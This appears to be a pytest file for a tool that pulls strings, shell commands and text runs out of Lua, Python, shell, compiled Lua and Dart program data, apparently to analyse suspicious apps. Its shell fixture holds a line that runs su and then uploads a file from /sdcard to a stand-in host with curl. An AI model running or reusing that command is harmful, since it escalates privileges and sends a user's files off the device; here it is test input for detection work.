"""Texts of programs that are not parsed: strings without comments, commands, runs, Dart."""

from __future__ import annotations

import time
from struct import pack

import pytest

from witnessmark.formats.texts import (
    commands,
    counted_wide_texts,
    lines,
    quoted_texts,
    runs,
)

LUA = b"""-- "no"
local u = "http://a.test/x" --[[ "no" ]]
print('it\\'s', [[long
one]])
"""
PYTHON = b"""# 'no'
u = "http://b.test"  # "no"
def f(): \"\"\"says "more" here\"\"\"
"""
SHELL = b"""#!/system/bin/sh
# su -c no
A=1
su -c "pm grant x" && curl -F f=@/sdcard/a http://c.test/up
"""


@pytest.mark.parametrize(
    ("data", "language", "texts"),
    [
        (LUA, "lua", ["http://a.test/x", "it\\'s", "long\none"]),
        (PYTHON, "python", ["http://b.test", 'says "more" here']),
    ],
)
def test_strings_without_comments(data: bytes, language: str, texts: list[str]) -> None:
    found = list(quoted_texts(data, language))
    assert [text for text, _ in found] == texts
    for text, span in found:
        assert data[span.offset : span.end].decode() == text


def test_commands_and_lines_of_the_shell() -> None:
    assert [(name, words) for name, words, _ in commands(SHELL)] == [
        ("su", ("-c", '"pm', "grant", 'x"')),
        ("curl", ("-F", "f=@/sdcard/a", "http://c.test/up")),
    ]
    for name, _, span in commands(SHELL):
        assert SHELL[span.offset : span.end].decode().startswith(name)
    assert next(text for text, _ in lines(SHELL)) == "A=1"


def test_runs_of_compiled_programs() -> None:
    data = b"\x1bLua\x51\0\x01http://d.test/z\0\xff\xfe" + "身份证".encode() + b"\0ab\0"
    assert [text for text, _ in runs(data)] == ["LuaQ", "http://d.test/z", "身份证"]
    assert [text for text, _ in runs("身份证号码 x".encode())] == ["身份证号码 x"]


def test_dart_texts_are_believed_by_their_length() -> None:
    text = "请输入身份证号"
    raw = text.encode("utf-16-le")
    data = b"\x7f" * 32 + pack("<Q", 2 * len(text)) + raw + b"\x55" * 16
    assert [one for one, _ in counted_wide_texts(data)] == [text]
    assert list(counted_wide_texts(b"\x7f" * 40 + raw + b"\x55" * 16)) == []
    assert list(counted_wide_texts(pack("<Q", 10) + "plain".encode("utf-16-le"))) == []


@pytest.mark.parametrize(
    "piece", [b"[[", b"'", b'"', b'"""', b"'\\", b"--[[", b";'", b"$(", b"\0N"]
)
def test_hostile_text_takes_bounded_time(piece: bytes) -> None:
    data = piece * ((1 << 16) // len(piece))
    began = time.process_time()
    for language in ("lua", "python"):
        list(quoted_texts(data, language))
    list(commands(data)), list(lines(data)), list(runs(data)), list(counted_wide_texts(data))
    assert time.process_time() - began < 15
